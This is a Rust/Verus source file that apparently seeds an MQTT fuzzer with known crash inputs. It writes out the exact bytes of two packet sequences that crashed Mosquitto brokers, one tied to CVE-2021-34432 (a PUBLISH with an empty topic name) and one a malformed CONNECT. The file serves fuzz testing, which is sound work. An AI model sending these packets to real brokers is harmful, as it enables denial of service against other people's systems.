//! Packet sequences that brought brokers down before.
//!
//! A coverage table can start out with these, so that sessions guided by
//! mutation have something to take. Each stands under the bytes of one of
//! its packets.

use crate::mqtt::{connect_packet, generate_connect_packet};
use crate::packet_queue::{observed, Entries, PacketQueue};
use crate::packets::{appended, empty_slots, Packets};
use vstd::prelude::*;

verus! {

/// The PUBLISH packet of the first sequence: an empty topic name.
pub open spec fn empty_topic_publish() -> Seq<u8> {
    seq![48u8, 10, 0, 0, 116, 101, 115, 116, 116, 101, 115, 116]
}

/// The CONNECT packet of the second sequence: protocol level 5 with
/// malformed properties.
pub open spec fn malformed_connect() -> Seq<u8> {
    seq![
        16u8, 96, 0, 4, 77, 81, 84, 84, 5, 192, 93, 85, 34, 21, 0, 15, 98, 99, 82, 85, 100, 109, 83,
        68, 89, 117, 119, 98, 86, 54, 50, 22, 0, 6, 72, 55, 70, 79, 120, 77, 23, 0, 25, 1, 34, 234,
        35, 0, 25, 118, 116, 78, 87, 72, 80, 101, 56, 48, 98, 52, 99, 86, 120, 102, 85, 107, 110,
        114, 116, 86, 89, 68, 122, 88, 0, 14, 86, 52, 86, 108, 79, 115, 54, 55, 73, 100, 84, 81,
        70, 68, 0, 6, 90, 48, 53, 99, 79, 57, 112, 4, 122, 230, 236, 0, 112, 24, 205, 229, 136, 20,
        38, 12, 49, 107, 51, 69, 111, 109, 83, 86, 119, 70, 114, 0, 3, 50, 75, 86, 64, 54, 206,
        187, 210, 50, 38, 0, 24, 57, 105, 111, 113, 118, 80, 115, 53, 68, 85, 111, 97, 56, 115, 79,
        43, 81, 54, 86, 103, 77, 49, 54, 112, 21, 100, 50, 84, 116, 114, 75, 66, 73, 116, 88, 103,
        106, 56, 97, 84, 84, 81, 89, 107, 81, 118,
    ]
}

/// The first sequence: CONNECT, a PUBLISH with an empty topic name, and a
/// DISCONNECT cut short.
pub open spec fn first_sequence() -> Seq<Seq<u8>> {
    appended(appended(appended(empty_slots(), connect_packet()), empty_topic_publish()), seq![224u8])
}

/// The second sequence: the malformed CONNECT alone.
pub open spec fn second_sequence() -> Seq<Seq<u8>> {
    appended(empty_slots(), malformed_connect())
}

/// The table that holds the two sequences.
pub open spec fn known_crashes() -> Entries {
    observed(
        observed(Entries::empty(), empty_topic_publish(), first_sequence()),
        malformed_connect(),
        second_sequence(),
    )
}

/// The bytes of the PUBLISH packet of the first sequence.
pub fn generate_empty_topic_publish() -> (r: [u8; 12])
    ensures
        r@ == empty_topic_publish(),
{
    let r = [48, 10, 0, 0, 116, 101, 115, 116, 116, 101, 115, 116];
    assert(r@ =~= empty_topic_publish());
    r
}

/// The bytes of the CONNECT packet of the second sequence.
pub fn generate_malformed_connect() -> (r: [u8; 183])
    ensures
        r@ == malformed_connect(),
{
    let r = [
        16, 96, 0, 4, 77, 81, 84, 84, 5, 192, 93, 85, 34, 21, 0, 15, 98, 99, 82, 85, 100, 109, 83,
        68, 89, 117, 119, 98, 86, 54, 50, 22, 0, 6, 72, 55, 70, 79, 120, 77, 23, 0, 25, 1, 34, 234,
        35, 0, 25, 118, 116, 78, 87, 72, 80, 101, 56, 48, 98, 52, 99, 86, 120, 102, 85, 107, 110,
        114, 116, 86, 89, 68, 122, 88, 0, 14, 86, 52, 86, 108, 79, 115, 54, 55, 73, 100, 84, 81,
        70, 68, 0, 6, 90, 48, 53, 99, 79, 57, 112, 4, 122, 230, 236, 0, 112, 24, 205, 229, 136, 20,
        38, 12, 49, 107, 51, 69, 111, 109, 83, 86, 119, 70, 114, 0, 3, 50, 75, 86, 64, 54, 206,
        187, 210, 50, 38, 0, 24, 57, 105, 111, 113, 118, 80, 115, 53, 68, 85, 111, 97, 56, 115, 79,
        43, 81, 54, 86, 103, 77, 49, 54, 112, 21, 100, 50, 84, 116, 114, 75, 66, 73, 116, 88, 103,
        106, 56, 97, 84, 84, 81, 89, 107, 81, 118,
    ];
    assert(r@ =~= malformed_connect());
    r
}

/// The first sequence.
pub fn cve_2021_34432() -> (r: Packets)
    ensures
        r@ == first_sequence(),
{
    let mut r = Packets::new();
    r.append(generate_connect_packet().as_slice());
    r.append(generate_empty_topic_publish().as_slice());
    let disconnect: [u8; 1] = [224];
    assert(disconnect@ =~= seq![224u8]);
    r.append(disconnect.as_slice());
    r
}

/// The second sequence.
pub fn other_mosquitto_cve() -> (r: Packets)
    ensures
        r@ == second_sequence(),
{
    let mut r = Packets::new();
    r.append(generate_malformed_connect().as_slice());
    r
}

/// A table that holds the two sequences: the first under its PUBLISH
/// packet, the second under its CONNECT packet.
pub fn known_crash_queue() -> (r: PacketQueue)
    ensures
        r@ == known_crashes(),
{
    let mut r = PacketQueue::new();
    r.observe(generate_empty_topic_publish().as_slice(), &cve_2021_34432());
    r.observe(generate_malformed_connect().as_slice(), &other_mosquitto_cve());
    r
}

} // verus!
